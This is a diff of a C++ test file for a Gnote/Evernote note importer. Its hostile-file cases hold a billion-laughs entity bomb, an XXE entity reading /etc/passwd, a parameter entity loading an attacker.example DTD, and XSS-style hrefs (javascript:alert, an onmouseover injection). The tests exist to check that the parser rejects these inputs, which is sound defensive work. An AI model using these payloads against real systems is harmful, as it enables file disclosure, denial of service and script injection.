@@ -109,8 +109,8 @@ std::string Note(std::string_view version, std::string_view title, std::string_v
            "\" xmlns:link=\"http://beatniksoftware.com/tomboy/link\" "
            "xmlns:size=\"http://beatniksoftware.com/tomboy/size\" "
            "xmlns=\"http://beatniksoftware.com/tomboy\">\n  <title>" +
-           std::string(title) + "</title>\n  <text xml:space=\"preserve\">" +
-           std::string(content) + "</text>\n  " + std::string(dates) + "\n</note>\n";
+           std::string(title) + "</title>\n  <text xml:space=\"preserve\">" + std::string(content) +
+           "</text>\n  " + std::string(dates) + "\n</note>\n";
 }
 
 INSTANTIATE_TEST_SUITE_P(
@@ -197,37 +197,40 @@ INSTANTIATE_TEST_SUITE_P(
                              "<created>20201010T101010Z</created>")),
                  {{"First 第一", "Hello 你好 😀", Utc("2020-10-11T10:10:10Z")},
                   {"Second", "only created", Utc("2020-10-10T10:10:10Z")}}},
-        EnexCase{"BlocksAsLinesWithoutInventedEmptyLines",
-                 Enex(EnNote("Blocks",
-                             "\n  <div>one</div>\n  <div><br/></div>\n  <div>two<br/></div>"
-                             "<div><div>nested</div></div><p>para</p><h1>Head</h1>"
-                             "<blockquote>quoted</blockquote><hr/><div>  spaced \n  words  "
-                             "</div><pre>pre  kept\n  indent</pre><div><br/></div><div><br/></div>")),
-                 {{"Blocks",
-                   "one\n\ntwo\nnested\npara\nHead\nquoted\nspaced words\npre  kept\n  indent",
-                   ""}}},
-        EnexCase{"BoldLinksTodosListsTables",
-                 Enex(EnNote(
-                     "Marks",
-                     "<div>plain <b>bold</b> and <strong> strong <i>it</i></strong>.</div>"
-                     "<div><a href=\"https://example.com/a?b=1&amp;c=2\">web</a> "
-                     "<a href=\"mailto:me@example.com\">mail</a> "
-                     "<a href=\"javascript:alert(1)\">script</a> "
-                     "<a href=\"https://x.example/&quot;onmouseover=&quot;\">quote</a> "
-                     "<a href=\"evernote:///view/1\">inner</a></div>"
-                     "<div><en-todo checked=\"true\"/>done</div><div><en-todo/>open</div>"
-                     "<div><en-todo checked=\"false\"></en-todo>also open</div>"
-                     "<ul><li>a</li><li>b<ol><li>x</li><li>y</li></ol></li></ul>"
-                     "<table><tr><th>h1</th><th>h2</th></tr><tr><td>c1</td><td>c2</td></tr>"
-                     "</table><div><b></b>no empty bold</div>")),
-                 {{"Marks",
-                   "plain <span class=\"TBlank\">bold</span> and <span "
-                   "class=\"TBlank\">strong it</span>.\n"
-                   "<a href=\"https://example.com/a?b=1&c=2\" target=\"_blank\">web</a> "
-                   "<a href=\"mailto:me@example.com\" target=\"_blank\">mail</a> script quote "
-                   "inner\n[x] done\n[ ] open\n[ ] also open\n• a\n• b\n  1. x\n  2. y\n"
-                   "h1 | h2\nc1 | c2\nno empty bold",
-                   ""}}},
+        EnexCase{
+            "BlocksAsLinesWithoutInventedEmptyLines",
+            Enex(EnNote("Blocks",
+                        "\n  <div>one</div>\n  <div><br/></div>\n  <div>two<br/></div>"
+                        "<div><div>nested</div></div><p>para</p><h1>Head</h1>"
+                        "<blockquote>quoted</blockquote><hr/><div>  spaced \n  words  "
+                        "</div><pre>pre  kept\n  indent</pre><div><br/></div><div><br/></div>")),
+            {{"Blocks", "one\n\ntwo\nnested\npara\nHead\nquoted\nspaced words\npre  kept\n  indent",
+              ""}}},
+        EnexCase{
+            "BoldLinksTodosListsTables",
+            Enex(EnNote("Marks",
+                        "<div>plain <b>bold</b> and <strong> strong <i>it</i></strong>.</div>"
+                        "<div><a href=\"https://example.com/a?b=1&amp;c=2\">web</a> "
+                        "<a href=\"mailto:me@example.com\">mail</a> "
+                        "<a href=\"javascript:alert(1)\">script</a> "
+                        "<a href=\"https://x.example/&quot;onmouseover=&quot;\">quote</a> "
+                        "<a href=\"evernote:///view/1\">inner</a></div>"
+                        "<div><en-todo checked=\"true\"/>done</div><div><en-todo/>open</div>"
+                        "<div><en-todo checked=\"false\"></en-todo>also open</div>"
+                        "<ul><li>a</li><li>b<ol><li>x</li><li>y</li></ol></li></ul>"
+                        "<table><tr><th>h1</th><th>h2</th></tr><tr><td>c1</td><td>c2</td></tr>"
+                        "</table><div><b></b>no empty bold</div>"
+                        "<div><b> <a href=\"https://b.example/\">bold link</a> after</b></div>")),
+            {{"Marks",
+              "plain <span class=\"TBlank\">bold</span> and <span "
+              "class=\"TBlank\">strong it</span>.\n"
+              "<a href=\"https://example.com/a?b=1&c=2\" target=\"_blank\">web</a> "
+              "<a href=\"mailto:me@example.com\" target=\"_blank\">mail</a> script quote "
+              "inner\n[x] done\n[ ] open\n[ ] also open\n• a\n• b\n  1. x\n  2. y\n"
+              "h1 | h2\nc1 | c2\nno empty bold\n<span class=\"TBlank\"><a "
+              "href=\"https://b.example/\" "
+              "target=\"_blank\">bold link</a> after</span>",
+              ""}}},
         EnexCase{"ResourcesCountedOnceAndCryptLeftOut",
                  Enex(EnNote("Media",
                              "<div>before<en-media type=\"image/png\" hash=\"abc\"/>after</div>"
@@ -280,14 +283,12 @@ TEST_P(HostileFiles, FailWholeSayingWhatIsWrongAndCheaply) {
 std::string Laughs(std::string_view root) {
     std::string file = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n";
     for (int i = 1; i <= 9; ++i)
-        file += " <!ENTITY lol" + std::to_string(i) + " \"" +
-                [&] {
-                    std::string refs;
-                    for (int k = 0; k < 10; ++k)
-                        refs += "&lol" + (i == 1 ? std::string() : std::to_string(i - 1)) + ";";
-                    return refs;
-                }() +
-                "\">\n";
+        file += " <!ENTITY lol" + std::to_string(i) + " \"" + [&] {
+            std::string refs;
+            for (int k = 0; k < 10; ++k)
+                refs += "&lol" + (i == 1 ? std::string() : std::to_string(i - 1)) + ";";
+            return refs;
+        }() + "\">\n";
     return file + "]>\n<" + std::string(root) + "><title>&lol9;</title></" + std::string(root) +
            ">\n";
 }
@@ -311,11 +312,14 @@ const std::string kGoodNote = Note("0.3", "T", "<note-content>T\nbody</note-cont
 INSTANTIATE_TEST_SUITE_P(
     Table, HostileFiles,
     testing::Values(
-        HostileCase{"BillionLaughsNote", Reader::Gnote, [] { return Laughs("note"); },
+        HostileCase{"BillionLaughsNote",
+                    Reader::Gnote,
+                    [] { return Laughs("note"); },
                     {"第 3 行", "声明了实体", "lol", "不会展开"}},
-        HostileCase{"BillionLaughsEnex", Reader::Enex, [] { return Laughs("en-export"); },
-                    {"声明了实体"}},
-        HostileCase{"BillionLaughsInsideContent", Reader::Enex,
+        HostileCase{
+            "BillionLaughsEnex", Reader::Enex, [] { return Laughs("en-export"); }, {"声明了实体"}},
+        HostileCase{"BillionLaughsInsideContent",
+                    Reader::Enex,
                     [] {
                         std::string content = Laughs("en-note");
                         content.erase(0, content.find('\n') + 1);
@@ -323,64 +327,85 @@ INSTANTIATE_TEST_SUITE_P(
                                     "]]></content></note>");
                     },
                     {"第 1 条笔记", "《Lol》", "声明了实体"}},
-        HostileCase{"ExternalEntity", Reader::Gnote,
+        HostileCase{"ExternalEntity",
+                    Reader::Gnote,
                     [] {
-                        return std::string("<!DOCTYPE note [<!ENTITY x SYSTEM "
-                                           "\"file:///etc/passwd\">]><note><title>&x;</title>"
-                                           "</note>");
+                        return std::string(
+                            "<!DOCTYPE note [<!ENTITY x SYSTEM "
+                            "\"file:///etc/passwd\">]><note><title>&x;</title>"
+                            "</note>");
                     },
                     {"声明了实体", "x"}},
-        HostileCase{"ParameterEntityLoadingADtd", Reader::Enex,
+        HostileCase{"ParameterEntityLoadingADtd",
+                    Reader::Enex,
                     [] {
-                        return std::string("<!DOCTYPE en-export [<!ENTITY % dtd SYSTEM "
-                                           "\"http://attacker.example/evil.dtd\"> %dtd;]>"
-                                           "<en-export/>");
+                        return std::string(
+                            "<!DOCTYPE en-export [<!ENTITY % dtd SYSTEM "
+                            "\"http://attacker.example/evil.dtd\"> %dtd;]>"
+                            "<en-export/>");
                     },
                     {"声明了实体", "dtd"}},
-        HostileCase{"ExternalDtdWithEntities", Reader::Gnote,
+        HostileCase{"ExternalDtdWithEntities",
+                    Reader::Gnote,
                     [] {
-                        return std::string("<!DOCTYPE note SYSTEM \"http://x.example/n.dtd\" ["
-                                           "<!ENTITY title \"injected\">]><note><title>&title;"
-                                           "</title></note>");
+                        return std::string(
+                            "<!DOCTYPE note SYSTEM \"http://x.example/n.dtd\" ["
+                            "<!ENTITY title \"injected\">]><note><title>&title;"
+                            "</title></note>");
                     },
                     {"声明了实体", "title"}},
-        HostileCase{"UndeclaredEntityUnderExternalDtd", Reader::Gnote,
+        HostileCase{"UndeclaredEntityUnderExternalDtd",
+                    Reader::Gnote,
                     [] {
-                        return std::string("<!DOCTYPE note SYSTEM \"http://x.example/n.dtd\">"
-                                           "\n<note><title>&secret;</title></note>");
+                        return std::string(
+                            "<!DOCTYPE note SYSTEM \"http://x.example/n.dtd\">"
+                            "\n<note><title>&secret;</title></note>");
                     },
                     {"第 2 行", "未声明的实体", "&secret;"}},
-        HostileCase{"UndeclaredParameterEntity", Reader::Gnote,
+        HostileCase{"UndeclaredParameterEntity",
+                    Reader::Gnote,
                     [] {
                         // Declarations after a parameter entity that is not read
                         // are not read either.
-                        return std::string("<!DOCTYPE note SYSTEM \"n.dtd\" [ %p; <!ENTITY "
-                                           "lol \"lol\"> ]><note><title>&lol;</title></note>");
+                        return std::string(
+                            "<!DOCTYPE note SYSTEM \"n.dtd\" [ %p; <!ENTITY "
+                            "lol \"lol\"> ]><note><title>&lol;</title></note>");
                     },
                     {"第 1 行", "未声明的实体", "&lol;"}},
-        HostileCase{"DeepNote", Reader::Gnote, [] { return Nested(100000, "note"); },
+        HostileCase{"DeepNote",
+                    Reader::Gnote,
+                    [] { return Nested(100000, "note"); },
                     {"第 1 行", "嵌套超过 256 层"}},
-        HostileCase{"DeepEnex", Reader::Enex, [] { return Nested(100000, "en-export"); },
+        HostileCase{"DeepEnex",
+                    Reader::Enex,
+                    [] { return Nested(100000, "en-export"); },
                     {"嵌套超过 256 层"}},
-        HostileCase{"DeepContent", Reader::Enex,
+        HostileCase{"DeepContent",
+                    Reader::Enex,
                     [] {
                         return Enex("<note><title>Deep</title><content><![CDATA[" +
                                     Nested(100000, "div") + "]]></content></note>");
                     },
                     {"第 1 条笔记", "《Deep》", "嵌套超过 256 层"}},
         HostileCase{"NulByte", Reader::Gnote, WithNul, {"第 4 行", "无效的字符"}},
-        HostileCase{"InvalidUtf8", Reader::Gnote,
+        HostileCase{"InvalidUtf8",
+                    Reader::Gnote,
                     [] { return Note("0.3", "bad \xff\xfe bytes", "", ""); },
                     {"无效的字符"}},
-        HostileCase{"UnknownEncoding", Reader::Enex,
+        HostileCase{"UnknownEncoding",
+                    Reader::Enex,
                     [] {
-                        return std::string("<?xml version=\"1.0\" encoding=\"GBK\"?>"
-                                           "<en-export/>");
+                        return std::string(
+                            "<?xml version=\"1.0\" encoding=\"GBK\"?>"
+                            "<en-export/>");
                     },
                     {"字符编码不受支持"}},
-        HostileCase{"TruncatedNote", Reader::Gnote,
-                    [] { return kGoodNote.substr(0, kGoodNote.size() / 2); }, {"不完整"}},
-        HostileCase{"TruncatedEnex", Reader::Enex,
+        HostileCase{"TruncatedNote",
+                    Reader::Gnote,
+                    [] { return kGoodNote.substr(0, kGoodNote.size() / 2); },
+                    {"不完整"}},
+        HostileCase{"TruncatedEnex",
+                    Reader::Enex,
                     [] {
                         const std::string whole = Enex(EnNote("T", "<div>x</div>"));
                         return whole.substr(0, whole.find("]]>"));
@@ -388,19 +413,28 @@ INSTANTIATE_TEST_SUITE_P(
                     {"不完整"}},
         HostileCase{"EmptyFile", Reader::Gnote, [] { return std::string(); }, {"空"}},
         HostileCase{"BlankFile", Reader::Enex, [] { return std::string(" \r\n\t"); }, {"空"}},
-        HostileCase{"EnexGivenAsNote", Reader::Gnote,
+        HostileCase{"EnexGivenAsNote",
+                    Reader::Gnote,
                     [] { return Enex(EnNote("T", "<div>x</div>")); },
                     {"不是 Gnote 笔记", "<en-export>"}},
-        HostileCase{"NoteGivenAsEnex", Reader::Enex, [] { return kGoodNote; },
+        HostileCase{"NoteWithoutContent",
+                    Reader::Gnote,
+                    [] { return std::string("<note>\n<to>Tove</to><body>hi</body>\n</note>"); },
+                    {"第 3 行", "不是 Gnote 笔记", "<note-content>"}},
+        HostileCase{"NoteGivenAsEnex",
+                    Reader::Enex,
+                    [] { return kGoodNote; },
                     {"不是 Evernote 导出文件", "<note>"}},
-        HostileCase{"ContentThatIsNoXml", Reader::Enex,
+        HostileCase{"ContentThatIsNoXml",
+                    Reader::Enex,
                     [] {
                         return Enex(EnNote("Good", "<div>fine</div>") +
                                     "<note><title>坏的</title><content>just &lt;b&gt;text"
                                     "</content></note>");
                     },
                     {"第 2 条笔记", "《坏的》", "内容不是有效的 XML", "第 1 行第 "}},
-        HostileCase{"OverTheSizeLimit", Reader::Gnote,
+        HostileCase{"OverTheSizeLimit",
+                    Reader::Gnote,
                     [] {
                         std::string file = kGoodNote;
                         file.insert(file.find("body"), (size_t{64} << 20) + 1 - file.size(), 'x');
